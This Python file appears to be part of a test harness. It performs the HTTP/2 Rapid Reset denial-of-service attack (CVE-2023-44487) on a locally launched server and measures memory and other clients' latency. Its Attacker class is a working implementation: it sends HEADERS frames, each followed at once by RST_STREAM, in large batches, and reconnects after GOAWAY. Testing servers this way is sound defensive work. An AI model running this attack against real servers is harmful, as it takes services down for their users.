"""Rapid reset (CVE-2023-44487): streams that are opened and reset at once, while other clients make calls."""

import dataclasses
import json
import pathlib
import struct
import subprocess
import sys
import time

from connection import (
    ADD_PATH,
    CANCEL,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    RST_STREAM,
    Connection,
    answer_to,
    frame,
    goaway_text,
    header_block,
)
from figures import percentile
from process import Failed, peak_bytes

STREAMS = 200_000
# Streams in one write.
BATCH = 200
# The timeout of an attack.
ATTACK_SECONDS = 120


@dataclasses.dataclass(frozen=True)
class Attack:
    """The attacker's side."""

    streams: int
    connections: int
    seconds: float
    # The server's last GOAWAY.
    goaway: str


@dataclasses.dataclass(frozen=True)
class RapidReset:
    attack: Attack
    # The server's peak memory, in bytes.
    peak: int
    # Of the other clients.
    calls: int
    failures: list
    p99_ms: float
    most_ms: float


def measure(server, streams, times):
    """Attacks that many times, each time on a new server."""
    return [measure_once(server, streams) for _ in range(times)]


def measure_once(server, streams):
    with server.start() as process:
        target = process.wait_for_target()
        probe = subprocess.Popen(
            [sys.executable, str(pathlib.Path(__file__).parent / "probe.py"), target],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        try:
            if probe.stdout.readline() != "ready\n":
                raise Failed("the other clients cannot connect")
            attacked = attack(target, streams)
            output, _ = probe.communicate(timeout=120)
        except subprocess.TimeoutExpired as late:
            raise Failed("the other clients got no reply after the attack") from late
        finally:
            probe.kill()
            probe.wait(20)
        if not process.is_running():
            raise Failed(f"the server exited: {process.output()}")
        peak = peak_bytes(process.pid)
    if probe.returncode != 0:
        raise Failed("the other clients have failed")
    told = json.loads(output)
    ordered = sorted(told["latencies"])
    return RapidReset(attacked, peak, len(ordered), told["failures"], percentile(ordered, 99), ordered[-1])


def attack(target, streams):
    """Opens and resets that many streams, on a new connection whenever the server closes one.

    Stops after ATTACK_SECONDS.
    """
    began = time.monotonic()
    done = connections = 0
    goaway = ""
    while done < streams and time.monotonic() < began + ATTACK_SECONDS:
        connections += 1
        attacker = Attacker(target, streams - done)
        try:
            attacker.run(began + ATTACK_SECONDS)
        except ConnectionError:
            # Closed by the server.
            pass
        finally:
            attacker.connection.close()
        done += attacker.sent
        goaway = attacker.goaway or goaway
    return Attack(done, connections, time.monotonic() - began, goaway)


class Attacker:
    """One connection of the attack."""

    def __init__(self, target, streams):
        self.connection = Connection(target)
        self.connection.settle()
        self.connection.socket.setblocking(False)
        self.headers = header_block(ADD_PATH, target)
        self.streams, self.sent, self.goaway = streams, 0, ""

    def run(self, give_up):
        """Runs until everything is sent, the server sends GOAWAY, or `give_up` has come."""
        pending = b""
        while (pending or self.sent < self.streams) and not self.goaway and time.monotonic() < give_up:
            if not pending:
                pending = self.batch()
            readable, writable = self.connection.wait_until_ready(write=True)
            if readable:
                pending += self.read()
            if writable:
                pending = pending[self.connection.socket.send(pending) :]

    def batch(self):
        """The bytes of the next streams, which count as sent."""
        count = min(BATCH, self.streams - self.sent)
        self.sent += count
        return b"".join(self.stream(2 * number + 1) for number in range(self.sent - count, self.sent))

    def stream(self, number):
        reset = frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL))
        return frame(HEADERS, END_HEADERS, number, self.headers) + reset

    def read(self):
        """Reads the server's frames. Returns the frames to send in response."""
        if not self.connection.receive():
            raise ConnectionResetError
        answers = b""
        for kind, flags, _, payload in self.connection.frames():
            answers += answer_to(kind, flags, payload)
            if kind == GOAWAY:
                self.goaway = goaway_text(payload)
        return answers
